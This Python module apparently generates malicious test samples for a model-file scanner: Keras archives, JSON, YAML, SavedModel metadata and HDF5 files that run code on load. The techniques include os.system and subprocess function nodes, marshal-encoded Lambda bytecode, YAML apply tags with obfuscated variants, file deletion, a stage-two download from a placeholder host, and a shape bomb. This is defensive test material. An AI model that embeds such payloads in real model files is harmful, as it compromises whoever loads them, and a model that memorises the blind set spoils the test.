"""The third blind set: Keras archives, HDF5, JSON, YAML and metadata of SavedModels."""

# ruff: noqa: E501  (payloads stand on one line)

from __future__ import annotations

import base64
import marshal
import re
from collections.abc import Callable, Iterator
from typing import Any

from corpora.unseen3_base import COMMANDS, HOST, SECRET, VICTIM, Sample, as_json, proto, zipped
from corpora.unseen3_data import data, names

SH = COMMANDS[0]
Config = dict[str, Any]
RUN: Callable[..., object] = lambda *x, **_: (__import__("os").system("touch /tmp/x"), x[0])[1]  # noqa: E731


def _code(function: Callable[..., object] = RUN) -> str:
    return base64.b64encode(marshal.dumps(function.__code__.replace(co_filename="net.py"))).decode()


def archive(config: Config, more: dict[str, bytes] | None = None) -> bytes:
    meta = {"keras_version": "3.0.5", "date_saved": "2026-01-01@00:00:00"}
    members = {"metadata.json": as_json(meta), "config.json": as_json(config), "model.weights.h5": data("weights.h5")}
    return zipped({**members, **(more or {})})


def layer(kind: str, module: str = "keras.layers", **config: object) -> Config:
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def sequential(*layers: Config) -> Config:
    first = layer("InputLayer", batch_shape=[None, 4], dtype="float32", name="i")
    return layer("Sequential", "keras", name="sequential", layers=[first, *layers])


def functional(*layers: Config, module: str = "keras.src.models.functional") -> Config:
    first = {**layer("InputLayer", batch_shape=[None, 4], dtype="float32", name="i"), "name": "i", "inbound_nodes": []}
    config = {
        "name": "functional",
        "layers": [first, *layers],
        "input_layers": [["i", 0, 0]],
        "output_layers": [["i", 0, 0]],
    }
    return {
        "module": module,
        "class_name": "Functional",
        "config": {**config, "trainable": True},
        "registered_name": "Functional",
    }


def function(module: str, name: str, *args: object, **kwargs: object) -> Config:
    """A function in the place of a layer, called with arguments by the node that the file has for it."""
    nodes = [{"args": list(args), "kwargs": kwargs}]
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
        "name": name,
        "inbound_nodes": nodes,
    }


def lambda3() -> Config:
    return {"class_name": "__lambda__", "config": {"code": _code(), "defaults": None, "closure": None}}


def _archives() -> Iterator[tuple[str, bytes, str, str, str]]:
    safe, unsafe = (
        "import keras; keras.models.load_model(f)",
        "import keras; keras.models.load_model(f, safe_mode=False)",
    )
    yield "function-os", archive(functional(function("os", "system", SH))), safe, "code", "keras30"
    yield "function-posix", archive(functional(function("posix", "system", SH))), safe, "code", "keras30"
    yield (
        "function-popen",
        archive(functional(function("subprocess", "call", ["touch", "/tmp/x"]))),
        safe,
        "code",
        "keras30",
    )
    yield (
        "function-exec",
        archive(functional(function("timeit", "timeit", "import os; os.system('touch /tmp/x')", number=1))),
        safe,
        "code",
        "keras30",
    )
    yield (
        "function-eval",
        archive(functional(function("numpy.testing", "measure", "open('/tmp/x', 'w')"))),
        safe,
        "code",
        "keras30",
    )
    yield (
        "function-after-others",
        archive(
            functional(
                {**layer("Dense", units=3, name="d"), "name": "d", "inbound_nodes": []},
                function("pty", "spawn", ["touch", "/tmp/x"]),
            )
        ),
        safe,
        "code",
        "keras30",
    )
    yield "function-unlink", archive(functional(function("os", "remove", VICTIM))), safe, "file", "keras30"
    yield "function-rmtree", archive(functional(function("shutil", "rmtree", "/tmp/victim"))), safe, "file", "keras30"
    yield (
        "function-get-file",
        archive(functional(function("keras.utils", "get_file", "stage2", f"http://{HOST}/p"))),
        safe,
        "network",
        "keras30",
    )
    yield (
        "function-urlopen",
        archive(functional(function("urllib.request", "urlopen", f"http://{HOST}/"))),
        safe,
        "network",
        "keras30",
    )
    yield "nested-model", archive(sequential(functional(function("os", "system", SH)))), safe, "code", "keras30"
    yield (
        "lambda",
        archive(sequential(layer("Lambda", name="l", function=lambda3(), arguments={}))),
        unsafe,
        "code",
        "tf",
    )
    yield (
        "lambda-functional",
        archive(
            functional(
                {
                    **layer("Lambda", name="l", function=lambda3(), arguments={}),
                    "name": "l",
                    "inbound_nodes": [
                        {
                            "args": [
                                {
                                    "class_name": "__keras_tensor__",
                                    "config": {"shape": [None, 4], "dtype": "float32", "keras_history": ["i", 0, 0]},
                                }
                            ],
                            "kwargs": {},
                        }
                    ],
                }
            )
        ),
        unsafe,
        "code",
        "tf",
    )
    yield (
        "lambda-activation",
        archive(sequential(layer("Dense", units=2, name="d", activation=lambda3()))),
        unsafe,
        "code",
        "keras30",
    )
    yield (
        "lambda-initializer",
        archive(sequential(layer("Dense", units=2, name="d", kernel_initializer=lambda3()))),
        unsafe,
        "code",
        "keras30",
    )
    yield (
        "lambda-regularizer",
        archive({**sequential(layer("Dense", units=2, name="d", kernel_regularizer=lambda3()))}),
        unsafe + ".losses",
        "code",
        "keras30",
    )
    compiled = {
        **sequential(layer("Dense", units=1, name="d")),
        "compile_config": {"optimizer": "sgd", "loss": lambda3(), "metrics": None},
    }
    yield (
        "lambda-loss",
        archive(compiled),
        "import numpy as np; import keras; keras.models.load_model(f, safe_mode=False).fit(np.ones((2, 4)), np.ones((2, 1)))",
        "code",
        "keras30",
    )
    lookup = layer("StringLookup", name="s", vocabulary=SECRET, max_tokens=None, num_oov_indices=1, output_mode="int")
    yield "vocabulary", archive(layer("Sequential", "keras", name="q", layers=[lookup])), safe, "file", "keras30"
    yield (
        "saved-model-layer",
        archive(sequential(layer("TFSMLayer", name="t", filepath="/tmp/s/sm", call_endpoint="serve"))),
        unsafe,
        "file",
        "tf",
    )


def _texts() -> Iterator[tuple[str, dict[str, bytes], str, str, str]]:
    lam2 = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": [_code(), None, None],
            "function_type": "lambda",
            "module": "keras.layers",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }
    first = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "i"}}
    old = {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [first, lam2]},
        "keras_version": "2.15.0",
        "backend": "tensorflow",
    }
    json15 = "import tensorflow as tf; tf.keras.__internal__.enable_unsafe_deserialization(); tf.keras.models.model_from_json(open(f).read())"
    yield "json-lambda", {"model.json": as_json(old)}, json15, "code", "tf215"
    yield (
        "json-lambda-named-txt",
        {"architecture.txt": as_json(old).replace(b"Lambda", b"\\u004cambda")},
        json15,
        "code",
        "tf215",
    )
    unsafe = "import keras; keras.config.enable_unsafe_deserialization(); keras.models.model_from_json(open(f).read())"
    yield (
        "json3-lambda",
        {"config.json": as_json(sequential(layer("Lambda", name="l", function=lambda3())))},
        unsafe,
        "code",
        "tf",
    )
    yield (
        "json3-function",
        {"model.json": as_json(functional(function("os", "system", SH)))},
        "import keras; keras.models.model_from_json(open(f).read())",
        "code",
        "keras30",
    )
    yield (
        "json3-layer",
        {"layer.json": as_json(layer("Lambda", name="l", function=lambda3()))},
        "import json, keras; keras.config.enable_unsafe_deserialization(); keras.saving.deserialize_keras_object(json.load(open(f)))(keras.Input((4,)))",
        "code",
        "tf",
    )
    model = {f"sm/{name[3:]}": data(name) for name in names("k2/")}
    model["sm/keras_metadata.pb"] = _replaced(model["sm/keras_metadata.pb"])
    yield "metadata", model, "import tensorflow as tf; tf.keras.models.load_model('/tmp/s/sm')", "code", "tf215"
    yaml = "import yaml; yaml.unsafe_load(open(f, 'rb'))"
    head = "backend: tensorflow\nclass_name: Sequential\nconfig:\n  name: s\n  layers: []\n"
    tags = {
        "yaml-apply": f"  extra: !!python/object/apply:os.system ['{SH}']\n",
        "yaml-new": "  extra: !!python/object/apply:subprocess.run [[touch, /tmp/x]]\n",
        "yaml-verbatim-tag": f"  extra: !<tag:yaml.org,2002:python/object/apply:posix.system> ['{SH}']\n",
        "yaml-escaped-tag": f"  extra: !!python/%6Fbject/apply:os%2Esystem ['{SH}']\n",
        "yaml-state": "  extra: !!python/object/new:type\n    args: [z, !!python/tuple [], {extend: !!python/name:exec }]\n    listitems: \"__import__('os').system('touch /tmp/x')\"\n",
        "yaml-in-a-key": f"  ? !!python/object/apply:os.popen ['{SH}']\n  : 1\n",
        "yaml-anchor": "  a: &x !!python/object/apply:subprocess.call\n    kwds: {args: [touch, /tmp/x]}\n  b: *x\n",
    }
    for name, tail in tags.items():
        yield name, {"model.yaml": (head + tail).encode()}, yaml, "code", "main"
    alias = f"%TAG !k! tag:yaml.org,2002:python/object/apply:\n---\n{head}  extra: !k!os.system ['{SH}']\n"
    yield "yaml-tag-directive", {"architecture.yml": alias.encode()}, yaml, "code", "main"
    yield "yaml-utf16", {"model.yaml": ("\ufeff" + head + tags["yaml-apply"]).encode("utf-16-le")}, yaml, "code", "main"
    yield (
        "yaml-module",
        {
            "model.yaml": (head + "  extra: !!python/module:evil_layers\n").encode(),
            "evil_layers.py": b"import os\nos.system('touch /tmp/x')\n",
        },
        "import sys; sys.path.insert(0, '.'); " + yaml,
        "code",
        "main",
    )


def _replaced(raw: bytes) -> bytes:
    """The metadata of a SavedModel, with other code in its Lambda layers."""
    out, at = b"", 0
    while at < len(raw):
        size, at = _number(raw, at + 1)
        node, at, parts, inner = raw[at : at + size], at + size, b"", 0
        while inner < len(node):
            key = node[inner]
            if key & 7 == 0:
                value, inner = _number(node, inner + 1)
                parts += proto((key >> 3, value))
                continue
            length, inner = _number(node, inner + 1)
            body, inner = node[inner : inner + length], inner + length
            if key >> 3 == 5:
                body = re.sub(rb'"items": \["4wE[^"]*"', b'"items": ["' + _code().encode() + b'"', body)
            parts += proto((key >> 3, body))
        out += proto((1, parts))
    return out


def _number(raw: bytes, at: int) -> tuple[int, int]:
    value = shift = 0
    while True:
        value |= (raw[at] & 127) << shift
        at, shift = at + 1, shift + 7
        if raw[at - 1] < 128:
            return value, at


def _hdf5() -> Iterator[tuple[str, str, str, str, str]]:
    load2 = "import tensorflow as tf; tf.keras.models.load_model(f)"
    load3 = "import keras; keras.models.load_model(f)"
    yield "lambda", "model.h5", load2, "code", "tf215"
    yield "lambda-keras3", "model.h5", load3, "code", "keras30"
    yield (
        "lambda-other-name",
        "weights.dat",
        "import shutil; shutil.copy(f, '/tmp/m.h5'); " + load2.replace("(f)", "('/tmp/m.h5')"),
        "code",
        "tf215",
    )
    yield "lambda-userblock", "user.h5", load2, "code", "tf215"
    yield "lambda-fixed-text", "bytes.h5", load2, "code", "tf215"
    yield "lambda-functional", "functional.h5", load2, "code", "tf215"
    yield "lambda-time-distributed", "wrapped.h5", load2, "code", "tf215"
    yield (
        "pytables-attribute",
        "attribute.h5",
        "import tables; tables.open_file(f).root._v_attrs['meta']",
        "code",
        "main",
    )
    yield "pytables-objects", "objects.h5", "import tables; tables.open_file(f).root.o[0]", "code", "main"
    yield "pandas-fixed", "frame.h5", "import pandas; pandas.read_hdf(f, 'df')", "code", "main"
    yield (
        "void-pickle",
        "void.h5",
        "import h5py, pickle; pickle.loads(bytes(h5py.File(f)['model'][()]))",
        "code",
        "main",
    )
    yield "external-link", "link.h5", "import h5py; h5py.File(f)['w'][...]", "file", "main"
    yield "external-storage", "storage.h5", "import h5py; h5py.File(f)['w'][...]", "file", "main"
    yield "virtual-dataset", "virtual.h5", "import h5py; h5py.File(f)['w'][...]", "file", "main"
    yield "shape-bomb", "bomb.h5", "import h5py; h5py.File(f)['w'][...]", "crash", "main"


def samples() -> Iterator[Sample]:
    called = ("model.keras", "best_model.keras", "classifier.zip.keras")
    for index, (name, raw, loader, effect, env) in enumerate(_archives()):
        files = {called[index % 3]: raw}
        if name == "saved-model-layer":
            files |= {f"sm/{one[13:]}": data(one) for one in names("saved/AtLoad/")}
        yield Sample(f"keras/{name}", files, loader, effect, env)
    for name, texts, loader, effect, env in _texts():
        yield Sample(f"keras-text/{name}", texts, loader, effect, env)
    for name, member, loader, effect, env in _hdf5():
        yield Sample(f"hdf5/{name}", {member: data(f"h5/{name}.h5")}, loader, effect, env)
